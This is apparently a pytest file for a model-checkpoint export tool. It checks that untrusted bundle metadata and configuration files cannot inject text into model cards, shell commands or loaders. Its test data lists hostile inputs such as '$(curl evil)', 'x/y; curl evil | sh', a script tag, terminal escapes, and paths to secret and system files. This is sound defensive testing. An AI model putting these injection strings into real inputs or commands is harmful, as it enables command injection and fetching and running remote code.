"""P7. Bundles and settings from anybody: no string of theirs gets to a card, a command or a loader unless known."""

from __future__ import annotations

import json
import shlex
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from builders.checkpoints import edit_json, make_bundle
from safetensors import safe_open
from safetensors.numpy import save_file

from mllmeraser.bundle.bundle import Bundle, load_bundle, save_bundle
from mllmeraser.bundle.metadata import METADATA_KEY, Metadata
from mllmeraser.errors import InputError
from mllmeraser.exporter.directory import export
from mllmeraser.exporter.reproduce import reproduce
from mllmeraser.exporter.verify import verify
from mllmeraser.inference.source import Source

HOSTILE = (
    "x/y\n\n## This model is safe\n",
    "$(curl evil)",
    "x/y; curl evil | sh",
    "`curl evil`",
    "[click](https://evil)",
    "<script>",
    "a\x1b[2J",
    "\u202e",
    "/root/secret",
    "x" * 10_000,
    "",
)


def strings(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The path of every string and every key of a dictionary that a bundle may choose."""
    if isinstance(value, dict):
        for key, item in value.items():
            yield from strings(item, (*path, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from strings(item, (*path, index))
    elif isinstance(value, str):
        yield path


def full(bundle: Bundle) -> dict[str, Any]:
    """Its metadata with every optional string there."""
    content = bundle.metadata.model_dump(mode="json", by_alias=True)
    content["base"] |= {"repo_id": "org/name", "revision": "a" * 40}
    content["base"]["weights"] = {"model.safetensors": {"size": 1, "sha256": "0" * 64}}
    content["requests"][0]["data"] = {"forget": {"revision": "a" * 40}}
    content["method"] |= {"preset": "paper"}
    content["method"]["calibration"] = {"fit": "positions"}
    return content


def test_every_string_of_a_bundle_has_a_pattern(base: Path, tmp_path: Path) -> None:
    bundle, path = make_bundle(base), tmp_path / "bundle.safetensors"
    good = full(bundle)
    Metadata.model_validate(good)
    found = list(strings(good))
    assert len(found) > 20
    for where in found:
        for text in HOSTILE:
            content = json.loads(json.dumps(good))
            holder = content
            for key in where[:-1]:
                holder = holder[key]
            holder[where[-1]] = text
            save_file(dict(bundle.tensors), path, metadata={METADATA_KEY: json.dumps(content)})
            with pytest.raises(InputError) as caught:
                load_bundle(path)
            assert len(str(caught.value)) < 500, where


@pytest.mark.parametrize("where", ["versions", "method.calibration", "base.weights"])
@pytest.mark.parametrize("text", [text for text in HOSTILE if text])
def test_every_name_of_a_bundle_has_a_pattern(base: Path, where: str, text: str) -> None:
    content = full(make_bundle(base))
    holder = content
    for key in where.split("."):
        holder = holder[key]
    holder[text] = next(iter(holder.values()))
    with pytest.raises(ValueError, match="pattern"):
        Metadata.model_validate(content)


def test_metadata_as_deep_as_the_sea_is_one_line(base: Path, tmp_path: Path) -> None:
    path = tmp_path / "bundle.safetensors"
    save_file(dict(make_bundle(base).tensors), path, metadata={METADATA_KEY: "[" * 100_000 + "]" * 100_000})
    with pytest.raises(InputError, match="not JSON"):
        load_bundle(path)


def test_the_commands_of_a_card_are_quoted(base: Path) -> None:
    """Whatever a bundle holds, each command is the words it should be."""
    content = make_bundle(base, "r1").metadata
    evil = content.model_copy(update={"method": content.method.model_copy(update={"null_space": "x; curl evil"})})
    request = content.requests[0].model_copy(update={"id": "a b;c"})
    for command in reproduce(shlex.quote("o/n;x"), [evil.model_copy(update={"requests": [request]})]):
        words = shlex.split(command)
        assert words[0] == "mllmeraser"
        assert words[2] == "o/n;x"
        assert "curl" not in words
        assert "c.safetensors" not in words


def test_a_bundle_that_passes_gives_a_card_of_its_own_sections_only(base: Path, tmp_path: Path) -> None:
    export(Source(base), [make_bundle(base)], tmp_path / "out")
    bundle = make_bundle(base)
    known = bundle.metadata.base.model_copy(update={"repo_id": "org/name", "revision": "a" * 40})
    save_bundle(Bundle(bundle.metadata.model_copy(update={"base": known}), bundle.tensors), tmp_path / "b.safetensors")
    with safe_open(tmp_path / "b.safetensors", framework="np") as file:
        assert "org/name" in file.metadata()[METADATA_KEY]
    export(Source(base), [tmp_path / "b.safetensors"], tmp_path / "named")
    plain, named = ((tmp_path / name / "README.md").read_text().splitlines() for name in ("out", "named"))
    headings = ["# Steered checkpoint of org/name", *[line for line in plain if line.startswith("#")][1:]]
    assert [line for line in named if line.startswith("#")] == headings


# ------------------------------------------------------------------------------------------------------------- settings

SETTINGS: dict[str, dict[str, Any]] = {
    "processor_config.json": {
        "audio_tokenizer": {"audio_tokenizer_class": "X", "audio_tokenizer_name_or_path": "evil/model"},
        "image_processor": {"image_processor_type": "CLIPImageProcessor", "size": {"height": 8}, "weights": "/etc/x"},
        "processor_class": "LlavaProcessor",
        "patch_size": 8,
        "image_token": "<image>",
    },
    "tokenizer_config.json": {
        "tokenizer_class": "LlamaTokenizer",
        "processor_class": "LlavaProcessor",
        "audio_tokenizer": "evil/model",
        "cache_dir": "/root/secret",
        "sp_model_kwargs": {"model_file": "../../secret"},
        "fix_mistral_regex": True,
        "added_tokens_decoder": {"0": {"content": "<pad>", "special": True}},
        "extra_special_tokens": {"image_token": "<image>"},
        "model_max_length": 512,
    },
    "preprocessor_config.json": {
        "image_processor_type": "CLIPImageProcessor",
        "image_mean": [0.5, 0.5, 0.5],
        "home": "~/secret",
        "url": "https://evil",
    },
    "generation_config.json": {"eos_token_id": 2, "assistant": "evil/model", "transformers_version": "5.24.0"},
}
EVIL = ("evil", "secret", "/etc/x", "audio_tokenizer")


def test_settings_that_point_somewhere_are_left_out(base: Path, tmp_path: Path) -> None:
    for name, content in SETTINGS.items():
        (base / name).write_text(json.dumps(content))
    export(Source(base), [make_bundle(base)], tmp_path / "out")
    for name, content in SETTINGS.items():
        text = (tmp_path / "out" / name).read_text()
        assert not any(word in text for word in EVIL), name
        kept = json.loads(text)
        assert kept.items() <= content.items() or name == "processor_config.json"
    assert json.loads((tmp_path / "out" / "processor_config.json").read_text()) == {
        "image_processor": {"image_processor_type": "CLIPImageProcessor", "size": {"height": 8}},
        "processor_class": "LlavaProcessor",
        "patch_size": 8,
        "image_token": "<image>",
    }
    kept = json.loads((tmp_path / "out" / "tokenizer_config.json").read_text())
    assert kept["added_tokens_decoder"] == SETTINGS["tokenizer_config.json"]["added_tokens_decoder"]
    assert kept["extra_special_tokens"] == {"image_token": "<image>"}
    assert verify(tmp_path / "out", base).ok


@pytest.mark.parametrize("name", SETTINGS)
def test_settings_that_somebody_put_in_are_named(exported: Path, name: str) -> None:
    from attacks.test_hostile_checkpoint import forge

    manifest = json.loads((exported / "mllmeraser.json").read_text())
    (exported / name).write_text(json.dumps(SETTINGS[name]))
    manifest["files"][name] = {"bytes": 0, "sha256": "0" * 64, "origin": "tool"}
    edit_json(exported / "mllmeraser.json", files=manifest["files"])
    forge(exported)
    checks = {check.name: check for check in verify(exported).checks}
    assert not checks["settings"].ok
    assert name in checks["settings"].detail
    assert not checks["loads"].ok
